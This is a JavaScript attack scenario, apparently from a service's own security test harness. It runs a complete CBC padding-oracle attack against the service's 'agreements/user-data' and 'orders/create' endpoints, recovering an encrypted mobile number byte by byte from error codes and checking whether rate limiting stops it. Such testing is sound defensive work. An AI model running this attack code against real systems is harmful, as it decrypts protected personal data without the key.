import { createCipheriv, randomBytes } from 'node:crypto';
import { setTimeout as delay } from 'node:timers/promises';
import { tally, unique } from './caller.mjs';
import { runAlone } from './run.mjs';

const PREFIX = 'svc_aes_v1:';
const BLOCK = 16;
const MOBILE = '13912345678';
/** So many values that cannot be decrypted may be answered before the channel is slowed down. */
const UNDECRYPTABLE = 25;
/** Guesses that are sent together: what counts them must not be slower than who sends them. */
const TOGETHER = 5;

/** What may stand behind a mobile's ciphertext, the likeliest first: digits, or the padding. Then every other byte. */
const DIGITS = [...Buffer.from('0123456789')];
const PADDINGS = Array.from({ length: BLOCK }, (_, index) => index + 1);
const ALL = Array.from({ length: 256 }, (_, byte) => byte);

/** What is answered to a value that could be decrypted, whatever stands behind it. */
const READABLE = ['0', '400001', '410010', '410011'];

export const attack = {
  name: 'padding-oracle',
  about: 'somebody with the appSecret and a captured ciphertext, without the aesKey, reads it byte by byte',
  numbers: {
    requests: { usual: 1_000, short: 60, means: 'requests at most' },
    refusals: { usual: 1_000, short: 1, means: 'gives up after being slowed down so often' },
  },
  mayEndAs: [...READABLE, '400002', '429001'],

  async prepare({ stage }) {
    const attacker = await stage.ownAttacker();
    return { attacker, captured: encryptedV1(MOBILE, Buffer.from(attacker.channel.aesKey, 'base64')) };
  },

  async run({ options, signal, prepared: { attacker, captured } }) {
    const codes = [];
    let sent = 0;
    let refusals = 0;
    /** Of what was sent before the first refusal. */
    let unreadable = 0;
    const isOver = () => signal.aborted || sent >= options.requests || refusals >= options.refusals;

    /** Whether the padding holds; undefined once that is not to be learnt any more. */
    async function asks(iv) {
      const value = PREFIX + Buffer.concat([iv, captured.block]).toString('base64');
      while (!isOver()) {
        sent += 1;
        const wasSlowed = refusals > 0;
        const { code, headers } = await askOracle(attacker, value, sent, signal);
        codes.push(code);
        if (code === '400002') {
          if (!wasSlowed) unreadable += 1;
          return false;
        }
        if (READABLE.includes(code)) return true;
        if (code !== '429001') return undefined;
        refusals += 1;
        if (isOver()) return undefined;
        await delay(Number(headers['retry-after']) * 1000, undefined, { signal }).catch(() => undefined);
      }
      return undefined;
    }

    const learnt = await readBlock(captured.iv, asks);
    const text = Buffer.from(learnt)
      .toString('latin1')
      .replace(/[^0-9]/g, '');
    return {
      ended: tally(codes),
      figures: {
        'bytes learnt': `${learnt.length} of ${BLOCK}, of which digits of the mobile: ${text.length} of ${MOBILE.length}`,
        'values that could not be decrypted, until slowed down': unreadable,
      },
      findings: [
        ...(unreadable > UNDECRYPTABLE
          ? [`${unreadable} values that cannot be decrypted were answered without a pause`]
          : []),
        ...(text === MOBILE ? ['the mobile was read without its key'] : []),
      ],
    };
  },
};

/**
 * The classic attack on a first block: its text is what decrypting gives, xor the IV, and the IV is the attacker's to
 * choose. From the last byte on, each is guessed by making it the next padding. What stands before it is left as it is,
 * so that it stays text.
 */
async function readBlock(iv, asks) {
  const known = [];
  for (let at = BLOCK - 1; at >= 0; at -= 1) {
    const padding = BLOCK - at;
    const made = Buffer.from(iv);
    known.forEach((byte, index) => {
      made[at + 1 + index] ^= byte ^ padding;
    });
    const holds = async (guess) => {
      const guessed = Buffer.from(made);
      guessed[at] = iv[at] ^ guess ^ padding;
      const answer = await asks(guessed);
      if (answer !== true || at !== BLOCK - 1) return answer;
      // At the last byte a longer padding may have been hit: then it depends on the byte before.
      guessed[at - 1] ^= 1;
      return asks(guessed);
    };
    const byte = await firstThat(holds, likely(known));
    if (byte === undefined) break;
    known.unshift(byte);
  }
  return known;
}

function likely(known) {
  const [last] = known.slice(-1);
  const first = last === undefined ? PADDINGS : known.length < last ? [last] : DIGITS;
  return [...new Set([...first, ...DIGITS, ...ALL])];
}

async function firstThat(holds, guesses) {
  for (let from = 0; from < guesses.length; from += TOGETHER) {
    const some = guesses.slice(from, from + TOGETHER);
    const answers = await Promise.all(some.map(holds));
    const right = some.find((_, index) => answers[index]);
    if (right !== undefined || answers.includes(undefined)) return right;
  }
  return undefined;
}

/** In turn at an endpoint that writes and at one that reads: it is one and the same secret. */
function askOracle(attacker, value, turn, signal) {
  if (turn % 2 === 1) return attacker.call('agreements/user-data', { bankCardNoEncrypted: value }, { signal });
  const order = {
    settlementMode: 'CHANNEL_COLLECT',
    externalOrderNo: unique('oracle'),
    productCode: 'TEST_SPU_001',
    channelUserId: unique('oracle'),
    mobileEncrypted: value,
  };
  return attacker.call('orders/create', order, { signal });
}

/** As channels have sent it from the beginning, whatever newer form there may be. */
function encryptedV1(text, aesKey) {
  const iv = randomBytes(BLOCK);
  const cipher = createCipheriv('aes-256-cbc', aesKey, iv);
  return { iv, block: Buffer.concat([cipher.update(text, 'utf8'), cipher.final()]) };
}

await runAlone(import.meta.url, attack);
